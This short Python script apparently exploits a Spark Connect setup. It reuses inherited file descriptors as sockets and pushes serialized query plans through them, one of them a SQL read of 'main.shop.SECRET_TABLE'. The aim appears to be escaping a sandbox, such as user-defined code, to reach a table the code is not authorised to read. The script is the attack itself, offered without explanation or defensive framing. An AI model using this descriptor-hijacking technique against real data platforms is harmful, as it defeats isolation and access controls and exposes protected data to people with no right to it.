# seeks: table
# A result, and another one after it has been checked.
import socket
import struct

from pyspark.sql.connect import proto


def model(tg):
    harmless, other = proto.Relation(), proto.Relation()
    harmless.range.end = 1
    harmless.range.step = 1
    other.sql.query = "SELECT * FROM main.shop.SECRET_TABLE"
    header = b'{"kind": "plan"}'
    for number in range(3, 64):
        try:
            link = socket.socket(fileno=number)
            for relation in (harmless, other):
                body = relation.SerializeToString()
                link.sendall(struct.pack("!BIQ", 8, len(header), len(body)) + header + body)
            link.detach()
        except OSError:
            pass
